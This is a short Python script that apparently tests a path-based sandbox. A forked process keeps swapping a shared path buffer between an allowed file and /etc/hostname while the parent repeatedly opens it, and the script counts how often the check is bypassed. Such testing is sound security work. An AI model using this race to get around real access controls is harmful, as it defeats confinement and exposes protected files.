import ctypes
import mmap
import os
import sys
import time

from attempts import libc

allowed = (sys.argv[1] + '/people.csv').encode()
wanted = b'/etc/hostname'
shared = mmap.mmap(-1, 4096)
path = (ctypes.c_char * 4096).from_buffer(shared)
path.value = allowed
swapper = os.fork()
if swapper == 0:
    copy = libc.memcpy
    copy.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_size_t]
    address = ctypes.addressof(path)
    while True:
        copy(address, wanted + b'\0', len(wanted) + 1)
        copy(address, allowed + b'\0', len(allowed) + 1)
opened = 0
for _ in range(2_000):
    descriptor = libc.open(path, os.O_RDONLY)
    if descriptor >= 0:
        opened += os.readlink('/proc/self/fd/%d' % descriptor) == '/etc/hostname'
        os.close(descriptor)
os.kill(swapper, 9)
print('opened', opened, 'times')
